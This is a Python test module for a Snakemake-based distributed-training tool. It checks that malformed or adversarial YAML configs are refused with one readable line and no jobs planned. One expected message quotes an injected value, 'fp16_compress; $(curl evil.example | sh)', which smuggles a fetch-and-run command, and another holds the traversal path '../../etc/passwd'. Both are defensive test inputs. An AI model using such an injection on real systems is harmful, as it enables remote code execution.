"""A corpus of configs a user could really write wrong (tests/fixtures/broken_configs/).

Each is refused by a dry run, started as README starts the workflow (the console script),
in a workspace whose results are real and finished: one readable line that names the key and
the fix, no traceback, no schema dump, no job planned, and not one byte or mtime of results/
changed. `NAME.yaml` is applied on top of the workspace's valid config with --configfile, as a
preset is; `NAME.full.yaml` replaces config/config.yaml.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from helpers.status import run_status
from helpers.workflow import ROOT, SNAKEMAKE, Workspace, tiny_config

# on one xdist worker: each worker would run the module's fixture (real training) again
pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("broken-configs"), pytest.mark.timeout(600)]

CORPUS = ROOT / "tests/fixtures/broken_configs"

# What each refusal must say: the key it names, and words of its fix.
EXPECTED = {
    "warmup_leaves_no_steady_epoch": ["warmup_epochs is 3 but max_epochs is 3", "set warmup_epochs below max_epochs"],
    "misspelt_key.full": ["unknown key 'max_epoch'", "did you mean 'max_epochs'?"],
    "misspelt_nested_key": ["broken.yaml: unknown key 'scalling' in batch", "did you mean 'scaling'?"],
    "number_in_quotes": ["batch.size is '64'", "write 64 without quotes"],
    "topology_without_devices": ["topologies[1] is '2x'", "write NODESxDEVICES"],
    "topology_zero_nodes": ["broken.yaml, topologies[1]: '0x4' has 0 nodes", "nodes must be an integer >= 1"],
    "topology_beyond_memory": ["broken.yaml: '99999x8' runs 799,992 processes", "run it with a cluster profile"],
    "topology_with_star": ["topologies[1] is '2*4'", "write NODESxDEVICES"],
    "baseline_not_listed": ["broken.yaml: baseline '1x4' is not among the topologies", "add it"],
    "duplicate_topology": ["topologies[2]: '1x2' is listed twice"],
    "strong_batch_not_divisible": ["global batch 64 over 3 devices", "choose a batch.size divisible by every world size"],
    "accumulate_zero": ["accumulate_grad_batches is 0", "must be at least 1"],
    "precision_misspelt": ["precision is 'bf16-mix'", "did you mean 'bf16-mixed'?"],
    "precision_as_number": ["precision is 16", "write '16-mixed'"],
    "data_file_missing": ["data.files lists data/points.csv, which does not exist", "fix the path"],
    "no_dataset_for_spiral_module": ["dataset.generator is none, but data.class_path", "name your own data module"],
    "topology_beyond_the_node": ["'1x16' asks for 16 devices per node", "site_gpus_per_node", "e.g. '2x8'"],
    "model_as_path": ["model is 'ddpscale.workloads.models.SpiralMLP'", "e.g. class_path: ddpscale.workloads.models.SpiralMLP"],
    "class_path_before_the_layout": ["'ddpscale.models.SpiralMLP' moved to 'ddpscale.workloads.models.SpiralMLP'"],
    "init_args_as_list": ["model.init_args is [128, 64, 32] but must be a mapping of keys", "name: value lines indented below it"],
    "compile_unknown_mode": ["compile is 'inductor'", "one of: none, default, reduce-overhead, max-autotune"],
    "compile_as_boolean": ["compile is true", "quote the value"],
    "split_not_summing_to_one": ["dataset.split [0.8, 0.15, 0.15] sums to 1.1", "add up to 1"],
    "negative_noise": ["dataset.noise is -0.2", "must be at least 0"],
    "seed_beyond_lightning": ["seed is 100000000000000000000000; it must be at most 2147483647"],
    "collective_timeout_huge": ["collective_timeout_s is 1e+300; it must be at most 86400"],
    "too_few_samples": ["dataset.samples 60 gives 42 train samples", "raise dataset.samples to at least 91"],
    "negative_tolerance": ["accuracy.tolerance is -0.02", "must be at least 0"],
    "efficiency_threshold_percent": ["report.efficiency_threshold is 80", "at most 1", "80% is 0.8"],
    "compare_with_missing_file": ["report.compare_with is 'old/scaling.tsv', which is not a file", "set it to null"],
    "class_path_without_module": ["model.class_path: 'SpiralMLP' is not an import path", "package.module.ClassName"],
    "class_path_relative": ["model.class_path: '../../etc/passwd' is not an import path", "package.module.ClassName"],
    "experiment_with_newline": ["experiment is 'foo\\n'", "one name of at most 64 letters"],
    "data_file_directory": ["data.files lists config, which is not a regular file", "list the files inside it"],
    "alias_bomb": ["broken.yaml: more than 100,000 values once its aliases (*name) are expanded"],
    "not_utf8.full": ["config/config.yaml line 2: byte 0xe9 is not UTF-8 text", "save the file as UTF-8"],
    "module_not_importable": ["model.class_path: module 'mymodel.net'", "fix the path"],
    "data_file_set_by_hand": ["data.init_args.data_file is set", "remove data.init_args.data_file"],
    "persistent_workers_without_workers": ["dataloader.persistent_workers is true but dataloader.num_workers is 0",
                                           "persistent_workers: false"],
    "prefetch_without_workers": ["dataloader.prefetch_factor is 4 but dataloader.num_workers is 0", "prefetch_factor: null"],
    "workers_with_resident_data": ["dataloader.num_workers is 2 but data.init_args.resident is true",
                                   "dataloader.num_workers: 0"],
    "repeats_zero": ["repeats is 0", "must be at least 1"],
    # DDP's settings (config ddp): nothing hostile reaches a job's command line or DDP
    "ddp_bucket_nan": ["broken.yaml: ddp.bucket_cap_mb is nan, which no setting can use", "give a finite number"],
    "ddp_comm_hook_shell": ["broken.yaml: ddp.comm_hook is 'fp16_compress; $(curl evil.example | sh)'",
                            "must be one of: none, fp16_compress, bf16_compress"],
    "ddp_misspelt_key": ["broken.yaml: unknown key 'find_unused_params' in ddp", "did you mean 'find_unused_parameters'?"],
    "ddp_flag_as_text": ["broken.yaml: ddp.find_unused_parameters is 'yes' (text) but must be true or false"],
    # settings the runs' devices cannot run: refused before 1x1 trains and 1x2 dies
    "sync_batchnorm_on_cpu": [("usermods/syncbn_cli.yaml: trainer.sync_batchnorm is true, but every run here "
                               "trains on CPU processes (accelerator is cpu)"),
                              "SyncBatchNorm layers only work with GPU modules", "so 1x2 would die",
                              "remove trainer.sync_batchnorm here"],
    "static_graph_with_accumulation": [("broken.yaml: ddp.static_graph: true cannot start under gradient "
                                        "accumulation (accumulate_grad_batches 2"),
                                       "set ddp.static_graph: false or accumulate_grad_batches: 1",
                                       "or 1x2 dies at its first step"],
    "fp16_mixed_on_cpu": ["broken.yaml: precision is 16-mixed, but every run here trains on CPU processes",
                          "Lightning would train bf16-mixed instead", "set precision: bf16-mixed or 32-true"],
    "topologies_as_text": ["topologies is '1x1, 1x2, 2x1'", 'write a list in brackets, e.g. ["1x1", "1x2", "2x1"]'],
    "empty_section": ["dataset is empty (null)", "remove the 'dataset:' line"],
    "accelerator_cuda": ["accelerator is 'cuda'", "one of: auto, cpu, gpu", "did you mean 'gpu'?"],
    "scaling_capitalised": ["batch.scaling is 'Weak'", "did you mean 'weak'?"],
    "tab_indentation.full": ["config/config.yaml line 35: a tab indents this line", "replace the tab with spaces"],
    "unclosed_list.full": ["config/config.yaml line 10: the list opened with '[' on this line is not closed",
                           "close it with ']'"],
    # the contract of the user's modules, checked by importing them once: the key, the
    # file that set it (the overlay, not config/config.yaml) and the fix
    "data_module_without_batch_size": [
        "broken.yaml: data.class_path: pytorch_lightning.demos.boring_classes.BoringDataModule.__init__ takes no "
        "batch_size", "`class BoringDataModuleB(BoringDataModule): def __init__(self, batch_size, **kwargs): "
        "super().__init__(**kwargs); self.batch_size = batch_size`", "name that class in data.class_path"],
    "data_module_with_hparams_dict": ["broken.yaml: data.class_path: usermods.hparams.HparamsData.__init__ takes no "
                                      "batch_size", "class HparamsDataB(HparamsData)"],
    "class_name_typo": ["broken.yaml: model.class_path: module 'usermods.tiny' has no 'BlobsClasifier'",
                        "did you mean 'BlobsClassifier'?"],
    "model_not_a_lightning_module": ["broken.yaml: model.class_path: 'collections.OrderedDict' is a class of "
                                     "collections, not a LightningModule", "name your LightningModule subclass"],
    "batch_size_in_data_init_args": ["broken.yaml: data.init_args.batch_size is set, but ddpscale sets the batch per "
                                     "device", "set batch.size instead"],
    "num_workers_in_data_init_args": ["broken.yaml: data.init_args.num_workers is set",
                                      "set dataloader.num_workers instead"],
    "model_init_arg_misspelt": ["broken.yaml: model.init_args.hiden: SpiralMLP.__init__ takes no 'hiden'",
                                "did you mean 'hidden'?"],
    "model_init_arg_missing": ["broken.yaml: model.init_args: WidthNet.__init__ needs 'width'",
                               "give it under model.init_args"],
    "module_imports_unified_lightning": ["broken.yaml: model.class_path: module 'usermods.unified' imports "
                                         "'lightning' (the unified package)", "import pytorch_lightning as pl",
                                         "usermods/unified.py, line 4"],
    "module_fails_to_import": ["broken.yaml: model.class_path: importing module 'usermods.vision' failed: "
                               "ModuleNotFoundError: No module named 'torchvision' (usermods/vision.py, line 4)",
                               "install torchvision in .venv"],
}


def corpus() -> list[str]:
    return sorted(path.name.removesuffix(".yaml") for path in CORPUS.glob("*.yaml"))


def test_corpus_is_complete():
    assert len(corpus()) >= 20
    assert sorted(EXPECTED) == corpus()
    for name in corpus():
        first = (CORPUS / f"{name}.yaml").read_bytes().splitlines()[0].decode()  # not_utf8.yaml is Latin-1
        assert first.startswith("# meant: "), f"{name}: the first line says what the user meant"


def console(workspace: Workspace, *args) -> subprocess.CompletedProcess:
    return subprocess.run([*SNAKEMAKE, "--profile", "profiles/local", *args], cwd=workspace.path,
                          capture_output=True, text=True, timeout=300, env=dict(os.environ))


def snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
    return {str(p.relative_to(folder)): (p.read_bytes(), p.stat().st_mtime_ns)
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def finished(tmp_path_factory):
    """A workspace whose data and baseline run finished for real, and its results' bytes and mtimes."""
    workspace = Workspace(tmp_path_factory.mktemp("broken") / "ws")
    shutil.copytree(ROOT / "tests/fixtures/usermods", workspace.path / "usermods")  # modules a config may name
    workspace.write_config(tiny_config())
    result = console(workspace, "baseline")
    assert result.returncode == 0, result.stderr[-3000:]
    assert workspace.metrics("1x1").exists()
    return workspace, snapshot(workspace.path / "results")


def test_the_workspace_config_itself_plans_jobs(finished):
    workspace, _ = finished
    result = console(workspace, "--dry-run")
    assert result.returncode == 0, result.stderr[-3000:]
    assert "rule train_single_node" in result.stdout  # the refusals below are the corpus's doing


def refusal(workspace: Workspace, name: str, corpus: Path = CORPUS) -> subprocess.CompletedProcess:
    fixture = corpus / f"{name}.yaml"
    if name.endswith(".full"):
        config = workspace.path / "config/config.yaml"
        kept = config.read_bytes()
        shutil.copy(fixture, config)
        try:
            return console(workspace, "--dry-run")
        finally:
            config.write_bytes(kept)
    shutil.copy(fixture, workspace.path / "broken.yaml")
    return console(workspace, "--dry-run", "--configfile", "broken.yaml")


@pytest.mark.parametrize("name", corpus())
def test_broken_config_is_refused_in_one_line_before_any_job(finished, name):
    workspace, before = finished
    assert_one_line_refusal(refusal(workspace, name), name, EXPECTED[name])
    assert snapshot(workspace.path / "results") == before, "the refusal touched results/"


def assert_one_line_refusal(result: subprocess.CompletedProcess, name: str, expected: list[str]) -> None:
    output = result.stdout + result.stderr
    assert result.returncode != 0, f"{name} was accepted:\n{output[-2000:]}"
    assert "Traceback" not in output and "Failed validating" not in output and "On instance" not in output
    assert "rule train_" not in output and "Job stats" not in output, "a job was planned"
    lines = result.stdout.splitlines()  # Snakemake logs its errors on stdout
    header = next(i for i, line in enumerate(lines) if line.startswith("WorkflowError"))
    # after the header, one line of message and then Snakemake's location lines ("  File ...")
    message = [line for line in lines[header + 1:] if not line.startswith("  File ")]
    assert len(message) == 1, f"{name}: expected one line of message, got:\n" + "\n".join(message)
    for words in expected:
        assert words in message[0], f"{name}: {words!r} not in {message[0]!r}"


# Files written to break the reader itself (tests/fixtures/adversarial/config_*): each is refused
# by ddpscale's one reader (ddpscale.plan.config.read) before Snakemake's `configfile:` loads it.
# An overlay (--configfile) is loaded by Snakemake before the Snakefile runs, so only what its
# loader reads without harm can be refused here: a key given twice.
ADVERSARIAL = ROOT / "tests/fixtures/adversarial"
ADVERSARIAL_EXPECTED = {
    "config_huge_int.full": ["config/config.yaml line 3: a whole number of 5,000 digits, more than any setting takes",
                             "fix the value"],
    "config_duplicate_key.full": ["config/config.yaml line 5: key 'max_epochs' is given on lines 2 and 5 of one "
                                  "mapping", "keep one"],
    "config_yte.full": ["config/config.yaml: '__use_yte__' at its top level would make Snakemake evaluate the file "
                        "as a yte template", "remove the key"],
    "config_deep_nesting.full": ["config/config.yaml line 4: nested more than 50 levels deep", "flatten it"],
    "config_duplicate_key": ["broken.yaml line 5: key 'size' is given on lines 3 and 5 of one mapping", "keep one"],
}


@pytest.fixture(scope="module")
def planned(tmp_path_factory) -> Workspace:
    """A workspace whose config plans jobs (a dry run; nothing trains)."""
    workspace = Workspace(tmp_path_factory.mktemp("adversarial") / "ws")
    workspace.write_config(tiny_config())
    return workspace


@pytest.mark.parametrize("name", sorted(ADVERSARIAL_EXPECTED))
def test_a_config_made_to_break_the_reader_is_refused_in_one_line(planned, name):
    assert_one_line_refusal(refusal(planned, name, ADVERSARIAL), name, ADVERSARIAL_EXPECTED[name])
    assert not (planned.path / "yte-ran").exists(), "Snakemake evaluated the config as a yte template"


@pytest.mark.parametrize("name", sorted(n for n in ADVERSARIAL_EXPECTED if n.endswith(".full")))
def test_status_on_a_config_made_to_break_the_reader_is_one_line(tmp_path, name):
    """`make status` reads config/config.yaml with the workflow's reader: the same line."""
    (tmp_path / "config").mkdir()
    shutil.copy(ADVERSARIAL / f"{name}.yaml", tmp_path / "config/config.yaml")
    result = run_status(tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr[-2000:]
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("ddpscale status: "), result.stderr[-2000:]
    for words in ADVERSARIAL_EXPECTED[name]:
        assert words in lines[0]


def test_sync_batchnorm_is_planned_where_every_run_has_gpus(workspace):
    """The CLI config refused above (sync_batchnorm_on_cpu), where every run gets GPUs of its own
    (two shown to the local profile): planned, each run's Trainer given the setting."""
    from helpers.devices import dry_run, train_commands

    shutil.copytree(ROOT / "tests/fixtures/usermods", workspace.path / "usermods")
    config = tiny_config(lightning_config="usermods/syncbn_cli.yaml")
    rc, output = dry_run(workspace, config, cuda_visible_devices="0,1")
    assert rc == 0, output
    commands = train_commands(output)
    assert sorted(commands) == ["1x1", "1x2"], output
    for command in commands.values():
        assert "--accelerator=gpu " in command and '"sync_batchnorm": true' in command, command
